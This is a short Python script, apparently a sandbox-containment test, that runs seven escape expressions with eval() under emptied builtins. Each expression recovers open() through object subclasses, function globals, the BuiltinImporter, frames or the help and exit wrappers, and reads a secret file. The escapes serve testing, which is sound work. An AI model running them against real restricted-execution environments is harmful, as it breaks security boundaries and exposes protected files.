"""Run without builtins, and get them back from what every object leads to.

canary: secret
control: through
"""
import os

TEXTS = (
    "().__class__.__base__.__subclasses__()[N].__init__.__globals__['__builtins__']['open'](SECRET).read()",
    "print_.__self__.open(SECRET).read()",
    "(lambda: 0).__class__.__call__.__class__.__class__.__base__.__subclasses__()[N].__init__.__builtins__['open'](SECRET).read()",
    "[x for x in (1).__class__.__base__.__subclasses__() if x.__name__ == 'BuiltinImporter'][0].load_module('builtins').open(SECRET).read()",
    "(a := [], a.append(b.gi_frame.f_back.f_back for b in a), *a[0])[-1].f_builtins['open'](SECRET).read()",
    "help_.__class__.__call__.__globals__['__builtins__']['open'](SECRET).read()",
    "exit_.__class__.__call__.__builtins__['open'](SECRET).read()",
)
classes = object.__subclasses__()
number = next(i for i, kind in enumerate(classes) if hasattr(kind.__init__, "__globals__"))
for text in TEXTS:
    names = {"__builtins__": {}, "SECRET": TARGETS["secret"], "N": number, "print_": print}
    names |= {"help_": getattr(__builtins__, "help", os._wrap_close), "exit_": getattr(__builtins__, "exit", os._wrap_close)}
    try:
        print(eval(text, names))
    except Exception as error:
        print(repr(error))
